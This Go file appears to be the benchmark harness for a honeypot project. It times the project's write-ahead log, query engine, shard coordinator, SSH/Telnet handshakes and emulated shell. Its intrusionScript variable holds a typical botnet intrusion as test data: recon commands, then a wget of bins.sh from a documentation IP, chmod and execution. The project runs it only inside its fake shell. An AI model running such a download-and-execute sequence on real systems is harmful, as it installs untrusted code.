package main

// The system under test, as the benchmark sees it. Every call into
// honeyfarm and honeyfarm/internal/... is in this file, so a change to
// one of those APIs is a change to one file here, and README.md can
// list the functions the benchmark times. Nothing in the repo outside
// bench/ knows the benchmark exists: each layer is timed from outside,
// around calls to its public functions.
//
// The wiring copies the binaries, not the tests: engines seal every
// snapshotEvery records and carry the registry and tagger cmd/shard
// gives them, WALs run on wal.Options defaults, the coordinator pulls
// at its default cadence with a real clock, as cmd/merge runs it.

import (
	"crypto/ed25519"
	crand "crypto/rand"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"time"

	"honeyfarm"
	"honeyfarm/internal/analysis"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/loadgen"
	"honeyfarm/internal/malware"
	"honeyfarm/internal/query"
	"honeyfarm/internal/shard"
	"honeyfarm/internal/shell"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/telnet"
	"honeyfarm/internal/vfs"
	"honeyfarm/internal/wal"
)

type (
	record   = honeypot.SessionRecord
	registry = honeyfarm.Registry
	plan     = loadgen.Plan
	target   = loadgen.Target
)

// Settings in force. snapshotEvery is cmd/shard's -snapshot-every
// default; the other two are the library defaults the bench leaves
// alone, named here so the environment record can print them.
const (
	snapshotEvery = 2000
	walSyncEvery  = 512
	pullEvery     = 250 * time.Millisecond
)

// clients is how many sessions a wire workload keeps open at once: one
// per core of the box the sizes were chosen on, which client and server
// share.
const clients = 2

// v1Paths are the query endpoints the benchmark reads and compares.
var v1Paths = []string{"/v1/summary", "/v1/pots?limit=20", "/v1/clients?limit=20", "/v1/countries"}

// intrusionScript is the six-line CMD+URI session: recon, download,
// chmod, execute. The address is a documentation range; Fetch is nil,
// so nothing leaves the box.
var intrusionScript = []string{
	"uname -a",
	"cat /proc/cpuinfo",
	"free -m",
	"wget http://203.0.113.9/bins.sh",
	"chmod +x bins.sh",
	"./bins.sh",
}

// simulate generates the record-level dataset and keeps the first n
// records (Simulate overshoots its target slightly).
func simulate(tr *tracer, parent spanID, seed int64, n, pots int) ([]*record, *registry, error) {
	id := tr.begin("workload.simulate", parent, 0)
	defer tr.end(id)
	d, err := honeyfarm.Simulate(honeyfarm.SimulateConfig{Seed: seed, TotalSessions: n + n/50 + 100, NumPots: pots})
	if err != nil {
		return nil, nil, fmt.Errorf("simulate: %w", err)
	}
	recs := d.Store.Records()
	if len(recs) < n {
		return nil, nil, fmt.Errorf("simulate: got %d records, want at least %d", len(recs), n)
	}
	return recs[:n], d.Registry, nil
}

func newRegistry(seed int64) *registry { return honeyfarm.NewRegistry(seed) }

func newEngine(reg *registry, pots, every int) *query.Engine {
	return query.New(query.Config{
		Epoch:         honeyfarm.DefaultEpoch,
		NumPots:       pots,
		Registry:      reg,
		Tagger:        analysis.Tagger(malware.NewTagger(nil)),
		SnapshotEvery: every,
	})
}

// node is one collector's durable-ingest pair: its WAL and the engine
// behind it.
type node struct {
	dir string
	log *wal.Log
	eng *query.Engine
}

func openNode(tr *tracer, parent spanID, dir string, reg *registry, pots int) (*node, error) {
	id := tr.begin("wal.open", parent, 0)
	log, _, err := wal.Open(dir, wal.Options{Epoch: honeyfarm.DefaultEpoch})
	tr.end(id)
	if err != nil {
		return nil, fmt.Errorf("wal open %s: %w", dir, err)
	}
	return &node{dir: dir, log: log, eng: newEngine(reg, pots, snapshotEvery)}, nil
}

// feedTiming is what one append-then-ingest call cost.
type feedTiming struct {
	append, ingest time.Duration
	sealed         bool // the ingest crossed snapshotEvery and sealed
}

// feed appends the batch durably, then folds it into the engine — the
// order every collector keeps, so the engine never runs ahead of what
// a restart recovers.
func (n *node) feed(tr *tracer, parent spanID, req int64, batch []*record) (feedTiming, error) {
	var ft feedTiming
	seals := n.eng.Seals()
	t0 := time.Now()
	id := tr.begin("wal.append", parent, req)
	err := n.log.Append(batch)
	tr.end(id)
	t1 := time.Now()
	ft.append = t1.Sub(t0)
	if err != nil {
		return ft, fmt.Errorf("wal append: %w", err)
	}
	id = tr.begin("engine.ingest", parent, req)
	n.eng.Ingest(batch)
	tr.end(id)
	ft.ingest = time.Since(t1)
	ft.sealed = n.eng.Seals() != seals
	return ft, nil
}

// syncSeal makes everything appended durable and publishes a snapshot
// over everything ingested; it returns what each step took.
func (n *node) syncSeal(tr *tracer, parent spanID) (syncD, sealD time.Duration, err error) {
	t0 := time.Now()
	id := tr.begin("wal.sync", parent, 0)
	err = n.log.Sync()
	tr.end(id)
	t1 := time.Now()
	if err != nil {
		return t1.Sub(t0), 0, fmt.Errorf("wal sync: %w", err)
	}
	id = tr.begin("engine.seal", parent, 0)
	n.eng.Seal()
	tr.end(id)
	return t1.Sub(t0), time.Since(t1), nil
}

func (n *node) seals() uint64 { return n.eng.Seals() }

func (n *node) close(tr *tracer, parent spanID) error {
	id := tr.begin("wal.close", parent, 0)
	defer tr.end(id)
	if err := n.log.Close(); err != nil {
		return fmt.Errorf("wal close: %w", err)
	}
	return nil
}

// recoverWAL does what a restarting collector does: open the log, walk
// every recovered record, close. It returns the batches for replay.
func recoverWAL(tr *tracer, parent spanID, dir string) (batches [][]*record, records int, took time.Duration, err error) {
	t0 := time.Now()
	id := tr.begin("wal.recover", parent, 0)
	defer tr.end(id)
	oid := tr.begin("wal.open", id, 0)
	log, rec, err := wal.Open(dir, wal.Options{})
	tr.end(oid)
	if err != nil {
		return nil, 0, 0, fmt.Errorf("wal reopen %s: %w", dir, err)
	}
	wid := tr.begin("wal.walk", id, 0)
	batches = make([][]*record, 0, len(rec.Batches))
	for _, b := range rec.Batches {
		for _, r := range b.Records {
			if r != nil {
				records++
			}
		}
		batches = append(batches, b.Records)
	}
	tr.end(wid)
	cid := tr.begin("wal.close", id, 0)
	err = log.Close()
	tr.end(cid)
	if err != nil {
		return nil, 0, 0, fmt.Errorf("wal close %s: %w", dir, err)
	}
	return batches, records, time.Since(t0), nil
}

// replayEngine folds recovered batches into a fresh engine and seals.
func replayEngine(reg *registry, pots int, batches [][]*record) *query.Engine {
	eng := newEngine(reg, pots, snapshotEvery)
	for _, b := range batches {
		eng.Ingest(b)
	}
	eng.Seal()
	return eng
}

// renderV1 renders the compared endpoints of a snapshot source through
// a fresh query server, without a socket.
func renderV1(src query.Source) (map[string][]byte, error) {
	h := query.NewServer(query.ServerConfig{Source: src}).Handler()
	out := make(map[string][]byte, len(v1Paths))
	for _, p := range v1Paths {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, p, nil))
		if rec.Code != http.StatusOK {
			return nil, fmt.Errorf("GET %s: status %d", p, rec.Code)
		}
		out[p] = rec.Body.Bytes()
	}
	return out, nil
}

// --- wire front ---

// front is a collector taking real sockets: a WireFront over a node.
type front struct {
	node    *node
	wf      *shard.WireFront
	targets []target
}

func startFront(tr *tracer, parent spanID, dir string, reg *registry, pots int) (*front, error) {
	n, err := openNode(tr, parent, dir, reg, pots)
	if err != nil {
		return nil, err
	}
	id := tr.begin("shard.wirefront.new", parent, 0)
	wf, err := shard.NewWireFront(shard.WireConfig{Shards: 1, Index: 0, NumPots: pots, Engine: n.eng, WAL: n.log})
	tr.end(id)
	if err != nil {
		n.log.Close()
		return nil, fmt.Errorf("wire front: %w", err)
	}
	f := &front{node: n, wf: wf}
	for _, p := range wf.Pots() {
		f.targets = append(f.targets, target{Pot: p.ID, SSHAddr: p.SSHAddr, TelnetAddr: p.TelnetAddr})
	}
	return f, nil
}

func (f *front) accepted() uint64 { return f.wf.Accepted() }
func (f *front) refused() uint64  { return f.wf.Refused() }
func (f *front) openConns() int   { return int(f.wf.OpenConns()) }

// close stops the listeners, seals what was accepted and closes the
// WAL, as cmd/shard's drain does.
func (f *front) close() error {
	err := f.wf.Close()
	f.node.eng.Seal()
	return errors.Join(err, f.node.close(nil, noSpan))
}

// table1Plan is loadgen's own session mix: the paper's Table 1
// category and protocol shares.
func table1Plan(seed int64, rate float64, dur time.Duration, targets []target) (*plan, error) {
	return loadgen.BuildPlan(loadgen.PlanConfig{Seed: seed, Rate: rate, Duration: dur, Targets: targets})
}

// scriptPlan is n sessions of one kind: login as root with a seeded
// password, type the intrusion script, exit. Arrival times are all
// zero; it is for closed-loop runs.
func scriptPlan(seed int64, n int, ssh bool, targets []target) *plan {
	rng := rand.New(rand.NewSource(seed))
	p := &plan{Seed: seed, Rate: 1, Duration: time.Second, Targets: targets}
	for i := 0; i < n; i++ {
		p.Arrivals = append(p.Arrivals, loadgen.Arrival{
			Target: rng.Intn(len(targets)),
			Script: loadgen.Script{
				Category: analysis.CmdURI,
				SSH:      ssh,
				User:     "root",
				Password: fmt.Sprintf("pw%d", rng.Intn(10000)),
				Commands: intrusionScript,
			},
		})
	}
	return p
}

// timedConn ends its session's span and latency sample when the
// driver closes it.
type timedConn struct {
	net.Conn
	once sync.Once
	done func()
}

func (c *timedConn) Close() error {
	err := c.Conn.Close()
	c.once.Do(c.done)
	return err
}

// planResult is one loadgen.Run as the benchmark reads it.
type planResult struct {
	attempted, completed int
	elapsed              time.Duration
	latMS                []float64 // dial→close per session, in completion order
	errors               map[string]int

	// loadgen's own account of an open-loop run: how late sessions
	// started, and achieved over offered rate.
	slipP50MS, slipP99MS, slipMaxMS float64
	achievedOverOffered             float64
}

func planDigest(p *plan) string { return p.Digest() }

// runPlan drives the plan over loopback TCP with conc connections.
// Closed loop (open=false) hands loadgen a Sleep that returns at once,
// so the next session starts when a connection frees; open loop sleeps
// for real and fires on the plan's schedule.
func runPlan(tr *tracer, parent spanID, p *plan, conc int, open bool) (*planResult, error) {
	id := tr.begin("loadgen.run", parent, 0)
	var (
		mu  sync.Mutex
		lat = make([]float64, 0, len(p.Arrivals))
		req atomic.Int64
	)
	tcp := loadgen.TCPDialer(5 * time.Second)
	dial := func(t target, ssh bool) (net.Conn, error) {
		name := "session.telnet"
		if ssh {
			name = "session.ssh"
		}
		sid := tr.begin(name, id, req.Add(1))
		t0 := time.Now()
		c, err := tcp(t, ssh)
		if err != nil {
			tr.end(sid)
			return nil, err
		}
		return &timedConn{Conn: c, done: func() {
			d := time.Since(t0)
			tr.end(sid)
			mu.Lock()
			lat = append(lat, ms(d))
			mu.Unlock()
		}}, nil
	}
	sleep := func(time.Duration) {}
	if open {
		sleep = time.Sleep
	}
	res, err := loadgen.Run(loadgen.Config{Plan: p, Dial: dial, Concurrency: conc, Now: time.Now, Sleep: sleep})
	tr.end(id)
	if err != nil {
		return nil, fmt.Errorf("loadgen run: %w", err)
	}
	rep := loadgen.BuildReport(res)
	return &planResult{
		attempted:           len(p.Arrivals),
		completed:           res.Completed,
		elapsed:             res.Elapsed,
		latMS:               lat,
		errors:              res.Errors,
		slipP50MS:           rep.SlipSeconds["p50"] * 1e3,
		slipP99MS:           rep.SlipSeconds["p99"] * 1e3,
		slipMaxMS:           rep.MaxSlipSeconds * 1e3,
		achievedOverOffered: rep.AchievedRate / p.Rate,
	}, nil
}

// --- fleet ---

// loopback is an HTTP server on a loopback port.
type loopback struct {
	url  string
	srv  *http.Server
	done chan error
}

func serveLoopback(h http.Handler) (*loopback, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	l := &loopback{url: "http://" + ln.Addr().String(), srv: &http.Server{Handler: h}, done: make(chan error, 1)}
	go func() { l.done <- l.srv.Serve(ln) }()
	return l, nil
}

func (l *loopback) close() error {
	err := l.srv.Close()
	if serr := <-l.done; !errors.Is(serr, http.ErrServerClosed) {
		err = errors.Join(err, serr)
	}
	return err
}

// fleet is two collector shards behind their pull API, a coordinator
// merging them, and the global query API over the coordinator — all in
// this process, all talking over loopback HTTP.
type fleet struct {
	nodes  []*node
	shards []*loopback
	coord  *shard.Coordinator
	api    *query.Server
	apiSrv *loopback
	client *http.Client
}

func startFleet(tr *tracer, parent spanID, dirs []string, reg *registry, pots int) (*fleet, error) {
	f := &fleet{client: &http.Client{Timeout: 10 * time.Second}}
	var urls []string
	for _, dir := range dirs {
		n, err := openNode(tr, parent, dir, reg, pots)
		if err != nil {
			return nil, errors.Join(err, f.stop())
		}
		f.nodes = append(f.nodes, n)
		l, err := serveLoopback(shard.NewHandler(n.eng))
		if err != nil {
			return nil, errors.Join(err, f.stop())
		}
		f.shards = append(f.shards, l)
		urls = append(urls, l.url)
	}
	coord, err := shard.New(shard.Config{
		Shards:    urls,
		NumPots:   pots,
		Countries: true,
		Epoch:     honeyfarm.DefaultEpoch,
		Tagger:    analysis.Tagger(malware.NewTagger(nil)),
		Now:       time.Now,
	})
	if err != nil {
		return nil, errors.Join(fmt.Errorf("coordinator: %w", err), f.stop())
	}
	f.coord = coord
	f.api = query.NewServer(query.ServerConfig{Source: coord, Shards: coord.ShardStatuses})
	if f.apiSrv, err = serveLoopback(f.api.Handler()); err != nil {
		return nil, errors.Join(err, f.stop())
	}
	return f, nil
}

// mergedSeq is how many records the published merged snapshot covers:
// what a /v1 reader can see. It is one atomic load.
func (f *fleet) mergedSeq() uint64 { return f.coord.Snapshot().Seq }

// get issues one query over the socket and returns status and body.
func (f *fleet) get(path string) (int, []byte, error) {
	resp, err := f.client.Get(f.apiSrv.url + path)
	if err != nil {
		return 0, nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	return resp.StatusCode, body, err
}

// fleetCounters are the coordinator's and query server's own counts.
type fleetCounters struct {
	pulls, pullFailures      uint64
	pullP50MS, pullP99MS     float64
	cacheHits, renders, shed uint64
}

func (f *fleet) counters() fleetCounters {
	var c fleetCounters
	for _, ps := range f.coord.PullStatsAll() {
		c.pulls += ps.Pulls
		c.pullFailures += ps.Failures
	}
	if h := f.coord.PullLatency(); h.Count() > 0 {
		c.pullP50MS = h.Quantile(0.5) * 1e3
		c.pullP99MS = h.Quantile(0.99) * 1e3
	}
	m := f.api.Metrics()
	c.cacheHits, c.renders, c.shed = m.CacheHits+m.Coalesced, m.Renders, m.Rejected
	return c
}

// stop ends the coordinator and the servers and closes the WALs. It
// is safe on a half-built fleet.
func (f *fleet) stop() error {
	var err error
	if f.coord != nil {
		f.coord.Stop()
	}
	if f.apiSrv != nil {
		err = errors.Join(err, f.apiSrv.close())
	}
	for _, l := range f.shards {
		err = errors.Join(err, l.close())
	}
	for _, n := range f.nodes {
		err = errors.Join(err, n.close(nil, noSpan))
	}
	f.client.CloseIdleConnections()
	return err
}

// --- isolated drives of one layer each (traced run only) ---

// acceptLoop serves ln with handle, one goroutine per connection, and
// returns a function that closes the listener and waits for them all.
func acceptLoop(ln net.Listener, handle func(net.Conn)) (stop func()) {
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				handle(c)
			}()
		}
	}()
	return func() {
		ln.Close()
		wg.Wait()
	}
}

func listenLoopback() (net.Listener, error) { return net.Listen("tcp", "127.0.0.1:0") }

// probeSSH times the SSH handshake (version exchange, key exchange,
// password auth; client and server both on this box) and one rejected
// password attempt on an established transport.
func probeSSH(n int, out map[string]float64) error {
	_, key, err := ed25519.GenerateKey(crand.Reader)
	if err != nil {
		return err
	}
	ln, err := listenLoopback()
	if err != nil {
		return err
	}
	cfg := &sshwire.ServerConfig{HostKey: key, PasswordCallback: honeypot.CowrieAuth, MaxAuthTries: 3}
	stop := acceptLoop(ln, func(c net.Conn) {
		if sc, err := sshwire.NewServerConn(c, cfg); err == nil {
			sc.Close()
		}
	})
	defer stop()
	addr := ln.Addr().String()

	shake := make([]float64, 0, n)
	m0 := readMem()
	for i := 0; i < n; i++ {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			return err
		}
		t0 := time.Now()
		cc, err := sshwire.NewClientConn(c, &sshwire.ClientConfig{User: "root", Password: "pw"})
		if err != nil {
			return fmt.Errorf("ssh handshake: %w", err)
		}
		shake = append(shake, us(time.Since(t0)))
		cc.Close()
	}
	m1 := readMem()
	out["sshwire.handshake_us"] = median(shake)
	out["sshwire.handshake_allocs"] = float64(m1.mallocs-m0.mallocs) / float64(n)
	out["sshwire.handshake_bytes"] = float64(m1.bytes-m0.bytes) / float64(n)

	auth := make([]float64, 0, n)
	for i := 0; i < n; i++ {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			return err
		}
		cc, err := sshwire.NewClientConn(c, &sshwire.ClientConfig{SkipAuth: true})
		if err != nil {
			return fmt.Errorf("ssh transport: %w", err)
		}
		t0 := time.Now()
		// root/root is the one password the honeypot policy rejects.
		if _, err := cc.TryPasswords("root", []string{"root"}); !errors.Is(err, sshwire.ErrAuthFailed) {
			cc.Close()
			return fmt.Errorf("ssh auth attempt: want rejection, got %v", err)
		}
		auth = append(auth, us(time.Since(t0)))
		cc.Close()
	}
	out["sshwire.auth_attempt_us"] = median(auth)
	return nil
}

// probeTelnet times option negotiation plus one accepted login.
func probeTelnet(n int, out map[string]float64) error {
	ln, err := listenLoopback()
	if err != nil {
		return err
	}
	cfg := &telnet.ServerConfig{Auth: honeypot.CowrieAuth}
	stop := acceptLoop(ln, func(c net.Conn) {
		defer c.Close()
		//lint:ignore error-discard the client side of this probe checks the login result
		_, _ = telnet.Handshake(c, cfg)
	})
	defer stop()
	addr := ln.Addr().String()

	login := make([]float64, 0, n)
	m0 := readMem()
	for i := 0; i < n; i++ {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			return err
		}
		t0 := time.Now()
		ok, err := telnet.ClientLogin(telnet.NewConn(c, false), "root", "pw")
		login = append(login, us(time.Since(t0)))
		c.Close()
		if err != nil || !ok {
			return fmt.Errorf("telnet login: ok=%v err=%v", ok, err)
		}
	}
	m1 := readMem()
	out["telnet.login_us"] = median(login)
	out["telnet.login_allocs"] = float64(m1.mallocs-m0.mallocs) / float64(n)
	return nil
}

// probeShell times what a session pays for its shell: cloning the
// filesystem image and creating the shell (the honeypot clones a
// template built once with vfs.New), then the intrusion script.
func probeShell(n int, out map[string]float64) {
	tmpl := vfs.New(time.Now)
	fresh := make([]float64, 0, n)
	script := make([]float64, 0, n)
	var allocs uint64
	for i := 0; i < n; i++ {
		t0 := time.Now()
		sh := shell.New(tmpl.Clone(), io.Discard, nil)
		t1 := time.Now()
		m0 := readMem()
		t2 := time.Now()
		for _, line := range intrusionScript {
			sh.Run(line)
		}
		d := time.Since(t2)
		allocs += readMem().mallocs - m0.mallocs
		fresh = append(fresh, us(t1.Sub(t0)))
		script = append(script, us(d))
	}
	out["shell.new_us"] = median(fresh)
	out["shell.script_us"] = median(script)
	out["shell.script_allocs"] = float64(allocs) / float64(n)
}

// probeSessions times whole intrusion sessions, one at a time over
// loopback TCP, against a bare honeypot whose sink only measures the
// record.
func probeSessions(n int, seed int64, out map[string]float64) error {
	var (
		mu    sync.Mutex
		bytes int
		recs  int
	)
	pot, err := honeypot.New(honeypot.Config{Sink: func(r *record) {
		b := len(wal.EncodeBatchFrame(nil, 0, []*record{r}))
		mu.Lock()
		bytes += b
		recs++
		mu.Unlock()
	}})
	if err != nil {
		return err
	}
	sshLn, err := listenLoopback()
	if err != nil {
		return err
	}
	telLn, err := listenLoopback()
	if err != nil {
		sshLn.Close()
		return err
	}
	stopSSH := acceptLoop(sshLn, pot.ServeSSH)
	stopTel := acceptLoop(telLn, pot.ServeTelnet)
	bare := []target{{SSHAddr: sshLn.Addr().String(), TelnetAddr: telLn.Addr().String()}}
	sshRes, err := runPlan(nil, noSpan, scriptPlan(seed, n, true, bare), 1, false)
	var telRes *planResult
	if err == nil {
		telRes, err = runPlan(nil, noSpan, scriptPlan(seed, n, false, bare), 1, false)
	}
	stopSSH()
	stopTel()
	if err != nil {
		return err
	}
	if recs == 0 {
		return errors.New("session probe: the sink saw no record")
	}
	out["honeypot.ssh_session_us"] = median(sshRes.latMS) * 1e3
	out["honeypot.telnet_session_us"] = median(telRes.latMS) * 1e3
	out["honeypot.record_bytes"] = float64(bytes) / float64(recs)
	return nil
}

// probeWAL times the write path at three batch sizes and the read path
// over what the middle one wrote.
func probeWAL(recs []*record, dir string, out map[string]float64) error {
	write := func(name string, batch, limit int) (string, error) {
		if limit > len(recs) {
			limit = len(recs)
		}
		d := filepath.Join(dir, name)
		log, _, err := wal.Open(d, wal.Options{Epoch: honeyfarm.DefaultEpoch})
		if err != nil {
			return "", err
		}
		t0 := time.Now()
		for lo := 0; lo < limit; lo += batch {
			hi := min(lo+batch, limit)
			if err := log.Append(recs[lo:hi]); err != nil {
				log.Close()
				return "", err
			}
		}
		out["wal.append_"+name+"_us_per_rec"] = us(time.Since(t0)) / float64(limit)
		t1 := time.Now()
		if err := log.Sync(); err != nil {
			log.Close()
			return "", err
		}
		if batch == 500 {
			out["wal.sync_us"] = us(time.Since(t1))
		}
		return d, log.Close()
	}
	// One record per append is slow; a fifth of the set is enough.
	if _, err := write("b1", 1, len(recs)/5); err != nil {
		return err
	}
	d500, err := write("b500", 500, len(recs))
	if err != nil {
		return err
	}
	if _, err := write("b4096", 4096, len(recs)); err != nil {
		return err
	}
	size, err := dirSize(d500)
	if err != nil {
		return err
	}
	out["wal.bytes_per_rec"] = float64(size) / float64(len(recs))

	m0 := readMem()
	_, n, took, err := recoverWAL(nil, noSpan, d500)
	m1 := readMem()
	if err != nil {
		return err
	}
	if n != len(recs) {
		return fmt.Errorf("wal probe: recovered %d of %d", n, len(recs))
	}
	out["wal.open_us_per_rec"] = us(took) / float64(n)
	out["wal.open_alloc_b_per_rec"] = float64(m1.bytes-m0.bytes) / float64(n)
	out["wal.open_allocs_per_rec"] = float64(m1.mallocs-m0.mallocs) / float64(n)
	return nil
}

func dirSize(dir string) (int64, error) {
	ents, err := os.ReadDir(dir)
	if err != nil {
		return 0, err
	}
	var n int64
	for _, e := range ents {
		info, err := e.Info()
		if err != nil {
			return 0, err
		}
		n += info.Size()
	}
	return n, nil
}

// probeEngine folds recs with auto-seal off, timing a seal at small
// and at full state; at full state it also times the path a pull takes
// (encode, decode, merge, materialize) and the query server's three
// answers (first render, cached body, 304).
func probeEngine(recs []*record, reg *registry, pots, small int, out map[string]float64) error {
	eng := newEngine(reg, pots, 0)
	const batch = 500
	var fold time.Duration
	ingest := func(lo, hi int) {
		t0 := time.Now()
		for ; lo < hi; lo += batch {
			eng.Ingest(recs[lo:min(lo+batch, hi)])
		}
		fold += time.Since(t0)
	}
	seal := func() float64 {
		t0 := time.Now()
		eng.Seal()
		return ms(time.Since(t0))
	}
	ingest(0, small)
	out["query.engine.seal_ms_at_200k"] = seal()
	ingest(small, len(recs))
	out["query.engine.fold_us_per_rec"] = us(fold) / float64(len(recs))
	out["query.engine.seal_ms_at_600k"] = seal()
	out["query.engine.clients_at_600k"] = float64(len(eng.Snapshot().Clients))

	// One record per call with auto-seal on: how WireFront's sink
	// feeds its engine.
	one := newEngine(reg, pots, snapshotEvery)
	t0 := time.Now()
	for i := 0; i < small; i++ {
		one.Ingest(recs[i : i+1])
	}
	out["query.engine.ingest_b1_us_per_rec"] = us(time.Since(t0)) / float64(small)

	t0 = time.Now()
	frame := shard.EncodePartialsFrame(eng)
	out["analysis.partials.encode_ms"] = ms(time.Since(t0))
	out["analysis.partials.frame_bytes"] = float64(len(frame))
	t0 = time.Now()
	seq, days, parts, err := shard.DecodePartialsFrame(frame)
	out["analysis.partials.decode_ms"] = ms(time.Since(t0))
	if err != nil {
		return fmt.Errorf("partials decode: %w", err)
	}
	dest := analysis.NewPartials(pots, nil, true)
	t0 = time.Now()
	err = dest.Merge(parts)
	out["analysis.partials.merge_ms"] = ms(time.Since(t0))
	if err != nil {
		return fmt.Errorf("partials merge: %w", err)
	}
	t0 = time.Now()
	snap := query.MaterializeSnapshot(dest, seq, days, analysis.Tagger(malware.NewTagger(nil)), nil)
	out["analysis.partials.materialize_ms"] = ms(time.Since(t0))
	if snap.Seq != uint64(len(recs)) {
		return fmt.Errorf("partials round trip: seq %d, want %d", snap.Seq, len(recs))
	}

	// Rendering: a fresh server per round makes every first GET a
	// render; the repeats hit its cache; If-None-Match gets a 304.
	var uncached, cached, reval []float64
	for round := 0; round < 5; round++ {
		h := query.NewServer(query.ServerConfig{Source: eng}).Handler()
		for _, p := range v1Paths {
			serve := func(etag string) (*httptest.ResponseRecorder, float64) {
				req := httptest.NewRequest(http.MethodGet, p, nil)
				if etag != "" {
					req.Header.Set("If-None-Match", etag)
				}
				rec := httptest.NewRecorder()
				t0 := time.Now()
				h.ServeHTTP(rec, req)
				return rec, us(time.Since(t0))
			}
			first, d := serve("")
			if first.Code != http.StatusOK {
				return fmt.Errorf("render %s: status %d", p, first.Code)
			}
			uncached = append(uncached, d)
			for i := 0; i < 20; i++ {
				_, d := serve("")
				cached = append(cached, d)
				rec, d := serve(first.Header().Get("ETag"))
				if rec.Code != http.StatusNotModified {
					return fmt.Errorf("revalidate %s: status %d", p, rec.Code)
				}
				reval = append(reval, d)
			}
		}
	}
	out["query.server.render_uncached_us"] = median(uncached)
	out["query.server.render_cached_us"] = median(cached)
	out["query.server.revalidate_us"] = median(reval)
	return nil
}
